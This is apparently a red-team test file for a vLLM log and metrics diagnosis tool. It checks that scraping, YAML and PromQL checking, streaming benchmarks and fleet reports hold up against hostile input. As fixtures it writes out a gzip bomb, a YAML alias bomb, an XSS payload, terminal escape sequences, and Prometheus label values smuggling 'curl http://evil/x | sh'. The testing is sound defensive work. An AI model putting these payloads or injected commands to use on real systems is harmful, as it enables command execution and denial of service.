"""Red team, round 3 (issue 21): the attacks that are not about vLLM's formatter or the clock
(tests/test_formatter_continuations.py, tests/test_clock_jumps.py), each through ``diagnose``
and ``serve`` as the pipeline wires them, and the ``vllm-doctor diagnose`` command."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest

from wrapping import diagnose_json, run

# --- item 4: CRI and docker keep stdout and stderr apart ------------------------------------------
# A genuine stderr line (a real OOM line of corpus logs) written while kubelet / docker holds the
# pieces of a long stdout line (a 20 KB prompt, cut at 16 KiB): it is a line of its own.
OOM = ("(EngineCore pid=112) ERROR 11-30 10:00:01 [core.py:1131] torch.OutOfMemoryError: CUDA out of memory. Tried to "
       "allocate 50.00 MiB. GPU 0 has a total capacity of 23.56 GiB of which 21.75 MiB is free.")
PROMPT = ("(APIServer pid=1) INFO 11-30 10:00:00 [logger.py:43] Received request cmpl-1: prompt: '" + "a" * 20000
          + "', params: SamplingParams(n=1)")
CUT = 16384


def _split_streams(kind: str) -> list[str]:
    if kind == "cri":
        return [f"2026-11-30T10:00:00.1Z stdout P {PROMPT[:CUT]}", f"2026-11-30T10:00:01.2Z stderr F {OOM}",
                f"2026-11-30T10:00:01.3Z stdout F {PROMPT[CUT:]}"]
    return [json.dumps({"log": PROMPT[:CUT], "stream": "stdout", "time": "2026-11-30T10:00:00.1Z"}, separators=(",", ":")),
            json.dumps({"log": OOM + "\n", "stream": "stderr", "time": "2026-11-30T10:00:01.2Z"}, separators=(",", ":")),
            json.dumps({"log": PROMPT[CUT:] + "\n", "stream": "stdout", "time": "2026-11-30T10:00:01.3Z"}, separators=(",", ":"))]


@pytest.mark.parametrize("kind", ["cri", "docker"])
@pytest.mark.parametrize("serve", [False, True], ids=["diagnose", "serve"])
def test_a_stderr_line_inside_a_split_stdout_line_is_read(kind, serve):
    pipe, events = run("\n".join(_split_streams(kind)) + "\n", serve=serve, chunk=4096 if serve else 0)
    ooms = [e for e in events if type(e).__name__ == "OutOfMemory"]
    assert [(e.meta.lineno, e.meta.process) for e in ooms] == [(2, "EngineCore")]
    assert pipe.state.oom_events_total == 1
    assert {f.name for f in pipe.evaluate()} & {"startup-oom", "runtime-oom"}


def test_a_stderr_line_inside_a_split_stdout_line_diagnose_command(tmp_path):
    for kind in ("cri", "docker"):
        p = tmp_path / f"{kind}.log"
        p.write_text("\n".join(_split_streams(kind)) + "\n")
        rep = diagnose_json(p)
        assert {f["name"] for f in rep["findings"]} & {"startup-oom", "runtime-oom"}, (kind, rep["findings"])


# --- item 5: a copytruncate hole at the start ----------------------------------------------------
@pytest.mark.parametrize("hole", [4096, 200_000])
def test_diagnose_reads_a_log_after_a_copytruncate_hole_as_serve_does(tmp_path, hole):
    from pathlib import Path

    from wrapping import pipeline

    log = (Path(__file__).parent / "fixtures" / "logs" / "cpu-preemption-tiny-kv-cache.log").read_bytes()
    p = tmp_path / "vllm.log"
    p.write_bytes(b"\x00" * hole + log)
    rep = diagnose_json(p)
    serve = pipeline(serve=True)
    data = p.read_bytes()
    for i in range(0, len(data), 65536):
        serve.feed("vllm.log", data[i:i + 65536])
    serve.end("vllm.log")
    assert rep["facts"]["kv_cache_tokens"] == serve.state.facts()["kv_cache_tokens"] == 4096
    assert "kv-capacity-bound" in {f["name"] for f in rep["findings"]}


def test_nul_bytes_after_text_are_still_binary(tmp_path):
    p = tmp_path / "core"
    p.write_bytes(b"ELF" + b"\x00\x01\x02" * 5000)
    r = subprocess.run([sys.executable, "-m", "vllm_doctor", "diagnose", str(p)], capture_output=True, text=True, timeout=60)
    assert r.returncode != 0 and "binary data" in r.stderr and "Traceback" not in r.stderr


# --- item 3: the sidecar's /metrics scrape is bounded in bytes, time and format --------------------
class _Local:
    """A test server on 127.0.0.1 (port 0), stopped on exit (``stop`` tells its handlers)."""

    def __enter__(self):
        return self

    def __exit__(self, *a):
        self.stop.set()
        self.srv.shutdown()
        self.srv.server_close()


def _serve(owner: _Local, handler) -> str:
    """Start ``handler`` on 127.0.0.1 (a port of the system's choice) for ``owner``: its base URL."""
    import threading
    from http.server import ThreadingHTTPServer

    owner.srv = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    owner.srv.daemon_threads = True
    threading.Thread(target=owner.srv.serve_forever, daemon=True).start()
    return f"http://127.0.0.1:{owner.srv.server_address[1]}"


class _Hostile(_Local):
    """A /metrics server on 127.0.0.1 (port 0) that answers with ``kind``."""

    def __init__(self, kind: str) -> None:
        import gzip
        import threading
        import zlib
        import time
        from http.server import BaseHTTPRequestHandler
        from pathlib import Path

        real = (Path(__file__).parent / "fixtures" / "metrics" / "vllm-0.32-cpu-preemption.txt").read_bytes()
        bomb = b""
        if kind == "bomb":  # 200 MiB of newlines: 0.2 MB on the wire (compressed piece by piece)
            z = zlib.compressobj(9, zlib.DEFLATED, 31)
            mib = b"\n" * (1 << 20)
            bomb = b"".join(z.compress(mib) for _ in range(200)) + z.flush()
        stop = self.stop = threading.Event()

        class H(BaseHTTPRequestHandler):
            def head(self, ctype="text/plain; version=0.0.4", body=None, gz=False):
                self.send_response(200)
                self.send_header("Content-Type", ctype)
                if gz:
                    self.send_header("Content-Encoding", "gzip")
                if body is not None:
                    self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                if body is not None:
                    self.wfile.write(body)

            def do_GET(self):  # noqa: N802
                try:
                    if kind == "endless":
                        self.head()
                        line = b"vllm:num_requests_running 1\n" * 4096
                        while not stop.is_set():
                            self.wfile.write(line)
                    elif kind == "bomb":
                        self.head(body=bomb, gz=True)
                    elif kind == "drip":
                        self.head()
                        for b in real:
                            if stop.is_set():
                                break
                            self.wfile.write(bytes([b]))
                            self.wfile.flush()
                            time.sleep(0.2)
                    elif kind == "html":
                        self.head("text/html; charset=utf-8", b"<html><body><form>Sign in</form></body></html>")
                    else:  # the real capture, gzip-compressed as prometheus_client serves it
                        self.head("text/plain; version=0.0.4; charset=utf-8", gzip.compress(real), gz=True)
                except (BrokenPipeError, ConnectionResetError):
                    pass

        self.url = _serve(self, H) + "/metrics"


def _rss_mb() -> float:
    import resource

    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


@pytest.mark.parametrize("kind, error", [("endless", "over 4194304 bytes"), ("bomb", "over 4194304 bytes"),
                                         ("drip", "not complete within the deadline (scrape_deadline)"), ("html", "'text/html' is not Prometheus")])
def test_a_hostile_metrics_answer_is_a_failed_scrape(kind, error):
    from vllm_doctor.ingest.scrape import MetricsScraper

    got = []
    before = _rss_mb()
    with _Hostile(kind) as srv:
        sc = MetricsScraper(srv.url, got.append, timeout=2, max_bytes=4 << 20, deadline=1.0)
        try:
            assert sc.scrape_once() is None
        finally:
            sc.stop()
    assert got == [] and not sc.stats.up and sc.stats.errors == 1
    assert error in sc.stats.last_error
    assert _rss_mb() - before < 100  # the peak RSS grew by less than 100 MB (was GBs)


def test_a_gzip_answer_within_the_bounds_is_read():
    from vllm_doctor.ingest.scrape import MetricsScraper

    got = []
    with _Hostile("gzip") as srv:
        sc = MetricsScraper(srv.url, got.append, timeout=2, max_bytes=4 << 20, deadline=1.0)
        try:
            assert sc.scrape_once() is not None
        finally:
            sc.stop()
    assert sc.stats.up and got[0].num_preemptions_total is not None


def test_the_scrape_bounds_are_settings():
    from vllm_doctor.export.serve import ConfigError, load_config

    cfg = load_config({}, env={"VLLM_DOCTOR_SCRAPE_MAX_BYTES": "1048576", "VLLM_DOCTOR_SCRAPE_DEADLINE": "3"})
    assert (cfg.scrape_max_bytes, cfg.scrape_deadline) == (1 << 20, 3.0)
    assert (load_config({}, env={}).scrape_max_bytes, load_config({}, env={}).scrape_deadline) == (16 << 20, 10.0)
    with pytest.raises(ConfigError, match="scrape_max_bytes"):
        load_config({}, env={"VLLM_DOCTOR_SCRAPE_MAX_BYTES": "0"})


# --- item 8: the state file is a typed, versioned schema ------------------------------------------
def _good_state(log) -> dict:
    st = log.stat()
    return {"version": 1, "files": {str(log): {"path": str(log), "dev": st.st_dev, "ino": st.st_ino, "offset": 0, "tail": "",
                                             "rotated": [], "done": []}},
            "counters": {"state": {"oom_events_total": 0, "preemptions_total": 3, "lines_total": {str(log): 0}},
                         "sources": {str(log): {"lineno": 0, "parsed": 0}}},
            "sticky_state": {}}


@pytest.mark.parametrize("damage", ["lineno", "counter", "offset", "version", "files"])
def test_a_bad_state_file_is_moved_aside_and_the_sidecar_starts_fresh(tmp_path, damage, caplog):
    from serve_helpers import live_sidecar

    log = tmp_path / "vllm.log"
    log.write_text("(APIServer pid=1) INFO 11-30 10:00:00 [kv_cache_utils.py:1] GPU KV cache size: 174,800 tokens\n")
    state = tmp_path / "state.json"
    data = _good_state(log)
    if damage == "lineno":
        data["counters"]["sources"][str(log)]["lineno"] = "x"
    elif damage == "counter":
        data["counters"]["state"]["preemptions_total"] = "lots"
    elif damage == "offset":
        data["files"][str(log)]["offset"] = -5
    elif damage == "version":
        data["version"] = 99
    else:
        data["files"] = ["not", "a", "mapping"]
    state.write_text(json.dumps(data))
    with live_sidecar({"logs": [str(log)], "state_file": str(state), "from_start": True}) as live:
        live.sidecar.evaluate()
        assert live.get("/metrics").status_code == 200
        assert live.get("/").status_code == 200
        assert live.sidecar.pipeline.state.facts()["kv_cache_tokens"] == 174800  # read from the start
        assert "not a valid vllm-doctor state" in (live.sidecar.state_file_error or "")
    assert (tmp_path / "state.json.bad").exists()
    assert any("starting fresh" in r.getMessage() for r in caplog.records)
    from vllm_doctor.ingest.statefile import check_state_file

    assert check_state_file(state) is None  # the sidecar wrote a good one at exit


def test_a_good_state_file_is_kept(tmp_path):
    from vllm_doctor.ingest.statefile import check_state_file

    log = tmp_path / "vllm.log"
    log.write_text("")
    state = tmp_path / "state.json"
    state.write_text(json.dumps(_good_state(log)))
    assert check_state_file(state) is None and state.exists()


# --- item 9: counters overflow, restart, NaN/Inf, cardinality ------------------------------------
def _pages_with(value: str) -> str:
    from pathlib import Path

    base = (Path(__file__).parent / "fixtures" / "metrics" / "vllm-0.32-cpu-preemption.txt").read_text()
    return "\n".join(ln if not ln or ln.startswith("#") else ln.rpartition(" ")[0] + " " + value
                     for ln in base.splitlines()) + "\n"


def test_counter_overflow_restart_and_nan_never_break_the_page():
    from pathlib import Path

    from serve_helpers import Pages, live_sidecar

    base = (Path(__file__).parent / "fixtures" / "metrics" / "vllm-0.32-cpu-preemption.txt").read_text()
    pages = [base, _pages_with("NaN"), _pages_with("+Inf"), _pages_with("-Inf"), _pages_with("1e308"), _pages_with("0"),
             _pages_with("1e308"), _pages_with("0"), base]
    with Pages(pages) as srv, live_sidecar({"metrics_url": srv.url}) as live:
        sc = live.sidecar
        for _ in pages:
            sc.scraper.scrape_once()
            sc.evaluate()
            for path in ("/", "/metrics", "/api/findings", "/healthz"):
                assert live.get(path).status_code in (200, 503), path
        assert sc.pipeline_errors == 0
        st = sc.pipeline.state
        assert st.preemptions_total == 2 * 105  # the capture's 105, then a restart (0) and 105 again
        assert sc.scraper.stats.rejected_values > 0


def test_hostile_cardinality_is_bounded():
    import time

    from vllm_doctor.ingest.scrape import MAX_BUCKETS, MAX_ENGINES, parse_metrics

    lines = [f'vllm:time_to_first_token_seconds_bucket{{le="{i / 1000}"}} {i}' for i in range(20000)]
    lines += [f'vllm:num_requests_running{{engine="{i}"}} 1' for i in range(20000)]
    t = time.process_time()
    p = parse_metrics("\n".join(lines) + "\n")
    assert len(p.sample.ttft_buckets) == MAX_BUCKETS and len(p.sample.engines) == MAX_ENGINES
    assert p.sample.num_running == 20000 and p.sample.rejected_values == 20000 - MAX_BUCKETS
    assert time.process_time() - t < 30  # (a bound, not a speed: measured 0.6 s)


# --- item 3: YAML and PromQL in `check` are bounded -----------------------------------------------
BOMB = """a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
"""


def _check(path, env=None) -> subprocess.CompletedProcess:
    import os

    return subprocess.run([sys.executable, "-m", "vllm_doctor", "check", str(path)], capture_output=True, text=True,
                          timeout=60, env={**os.environ, **(env or {})})


def test_a_yaml_alias_bomb_is_refused_in_one_line(tmp_path):
    p = tmp_path / "compose.yaml"
    p.write_text(BOMB)
    assert len(BOMB.encode()) < 520
    r = _check(p)
    assert r.returncode == 2 and "Traceback" not in r.stderr
    assert "more than 1000000 nodes once its aliases are expanded (VLLM_DOCTOR_MAX_YAML_NODES)" in r.stderr
    assert len(r.stderr.strip().splitlines()) == 1
    # the bound is a setting
    small = tmp_path / "small.yaml"
    small.write_text("x: &x {image: vllm/vllm-openai:v0.8.0}\ny: *x\nz: *x\n")
    assert "VLLM_DOCTOR_MAX_YAML_NODES" in _check(small, {"VLLM_DOCTOR_MAX_YAML_NODES": "5"}).stderr
    assert "VLLM_DOCTOR_MAX" not in _check(small).stderr


@pytest.mark.parametrize("size", [10_000, 20_000])
def test_a_deeply_nested_promql_expression_is_refused_in_one_line(tmp_path, size):
    p = tmp_path / "q.promql"
    n = size // 2
    p.write_text("(" * n + "vllm:num_requests_running" + ")" * n + "\n")
    r = _check(p)
    assert r.returncode == 2 and "Traceback" not in r.stderr and r.returncode > 0
    assert ("nested more than 64 deep (VLLM_DOCTOR_MAX_PROMQL_DEPTH)" in r.stderr
            or "VLLM_DOCTOR_MAX_PROMQL_BYTES" in r.stderr), r.stderr


def test_promql_within_the_bounds_is_linted(tmp_path):
    p = tmp_path / "q.promql"
    p.write_text('sum(rate(vllm:num_preemptions_total{model_name="m"}[5m]))\n')
    r = _check(p)
    assert "VLLM_DOCTOR_MAX" not in r.stderr and r.returncode in (0, 1)


# --- item 6: bench counts malformed chunks as errors, validates types, bounds responses ------------
class _SSE(_Local):
    """An OpenAI-style streaming server on 127.0.0.1 (port 0) whose completions answer ``kind``."""

    def __init__(self, kind: str) -> None:
        import threading
        from http.server import BaseHTTPRequestHandler

        stop = self.stop = threading.Event()

        class H(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.0"

            def do_GET(self):  # noqa: N802  (/v1/models, /metrics)
                body = b'{"data": [{"id": "m"}]}' if "models" in self.path else b""
                self.send_response(200 if body else 404)
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self):  # noqa: N802
                self.rfile.read(int(self.headers.get("Content-Length", 0)))
                self.send_response(200)
                self.send_header("Content-Type", "text/event-stream")
                self.end_headers()
                chunks = {
                    "choices-str": ['{"choices": "x"}'],
                    "string-tokens": ['{"choices": [{"text": "a"}]}', '{"choices": [{"text": "b"}]}',
                                      '{"choices": [], "usage": {"prompt_tokens": 3, "completion_tokens": "12"}}'],
                    "not-json": ['{"choices": [{"text": "a"}]}', "{oops"],
                    "text-int": ['{"choices": [{"text": 5}]}'],
                }.get(kind)
                try:
                    if chunks is None:  # "endless": tokens forever, never [DONE]
                        line = b'data: {"choices": [{"text": "' + b"a" * 4000 + b'"}]}\n\n'
                        while not stop.is_set():
                            self.wfile.write(line)
                        return
                    for c in chunks:
                        self.wfile.write(f"data: {c}\n\n".encode())
                    self.wfile.write(b"data: [DONE]\n\n")
                except (BrokenPipeError, ConnectionResetError):
                    pass

        self.url = _serve(self, H)


@pytest.mark.parametrize("kind, error", [("choices-str", "choices is str, not a list"),
                                         ("string-tokens", "usage.completion_tokens is '12', not a count of tokens"),
                                         ("not-json", "unreadable JSON '{oops'"),
                                         ("text-int", "the text is int, not a string"),
                                         ("endless", "response over 1048576 bytes (--max-response-bytes)")])
def test_bench_counts_a_malformed_stream_as_an_error_with_its_message(kind, error):
    import asyncio

    from vllm_doctor.loadtest.ladder import LadderConfig, run_ladder

    with _SSE(kind) as srv:
        cfg = LadderConfig(url=srv.url, model="m", levels=[1], requests_per_level=4, input_len=2, output_len=2,
                           request_timeout_seconds=20, level_timeout_seconds=60, metrics_url="",
                           max_response_bytes=1 << 20)
        res = asyncio.run(run_ladder(cfg))
    lv = res["levels"][0]
    assert (lv["requests"], lv["completed"], lv["errors"]) == (4, 0, 4)
    assert lv["error_examples"] == [f"malformed stream chunk: {error}"]


# --- items 3, 7: fleet mode: label values escaped, never a command; a bad series skipped; bounded --
HOSTILE_POD = "vllm-0\x1b[2J\x1b[31m|<img src=x onerror=alert(1)>\n; curl http://evil/x | sh"


class _FakePrometheus(_Local):
    """Prometheus' HTTP API on 127.0.0.1: every range query answers vLLM's running / waiting /
    KV usage series of one replica whose pod label is hostile, plus a series with +Inf and a
    malformed one; ``huge``: an answer that never ends."""

    def __init__(self, huge: bool = False) -> None:
        import threading
        from http.server import BaseHTTPRequestHandler
        from urllib.parse import parse_qs

        stop = self.stop = threading.Event()

        class H(BaseHTTPRequestHandler):
            def do_POST(self):  # noqa: N802
                form = parse_qs(self.rfile.read(int(self.headers.get("Content-Length", 0))).decode())
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.end_headers()
                if huge:
                    self.wfile.write(b'{"status": "success", "data": {"resultType": "matrix", "result": [')
                    try:
                        while not stop.is_set():
                            self.wfile.write(b'{"metric": {}, "values": []},' * 1000)
                    except (BrokenPipeError, ConnectionResetError):
                        pass
                    return
                start, end = float(form.get("start", ["0"])[0]), float(form.get("end", ["0"])[0])
                ts = [start + 15 * i for i in range(int((end - start) // 15) + 1)][:400]
                labels = {"pod": HOSTILE_POD, "namespace": "prod", "model_name": "m\x1b]0;x\x07",
                          "cache_dtype": "fp8; curl http://evil/x | sh", "block_size": "16", "engine": "0"}
                result = [{"metric": {**labels, "__name__": n}, "values": [[t, v] for t in ts]}
                          for n, v in (("vllm:num_requests_running", "8"), ("vllm:num_requests_waiting", "0"),
                                       ("vllm:kv_cache_usage_perc", "0.5"), ("vllm:cache_config_info", "1"))]
                result += [{"metric": {**labels, "__name__": "vllm:num_requests_waiting"}, "values": [[ts[0], "+Inf"]]},
                           {"metric": "not a mapping", "values": 5}]
                self.wfile.write(json.dumps({"status": "success", "data": {"resultType": "matrix", "result": result}})
                                 .encode())

            def log_message(self, *a):
                pass

        self.url = _serve(self, H)


def test_fleet_label_values_are_escaped_and_never_a_command():
    from vllm_doctor.fleet import diagnose_prometheus
    from vllm_doctor.report.render import to_html, to_markdown, to_text

    with _FakePrometheus() as prom:
        res = diagnose_prometheus(prom.url, since="1h")
    rep = res.report
    text, md, page = to_text(rep), to_markdown(rep), to_html(rep)
    assert "\x1b" not in text and "\x07" not in text
    assert "<img" not in md and "<img" not in page
    first = [ln for ln in (text + md).splitlines() if "Do this first" in ln]
    assert not any("curl" in ln or "evil" in ln for ln in first), first  # a label is shown, never a command
    assert "\\|&lt;img src=x" in md  # shown as text in the table, its pipe escaped
    for f in rep.findings:
        for fix in f.fixes:
            assert "curl" not in str(fix.value) and "evil" not in str(fix.value)
    assert rep.sources[0].get("series_skipped", 0) >= 1


def test_fleet_prometheus_answers_are_bounded(monkeypatch):
    import time

    from vllm_doctor.errors import InputError
    from vllm_doctor.fleet import diagnose_prometheus

    monkeypatch.setenv("VLLM_DOCTOR_PROMETHEUS_MAX_BYTES", str(1 << 20))
    t = time.monotonic()
    with _FakePrometheus(huge=True) as prom, pytest.raises(InputError, match="over 1048576 bytes"):
        diagnose_prometheus(prom.url, since="1h")
    assert time.monotonic() - t < 60
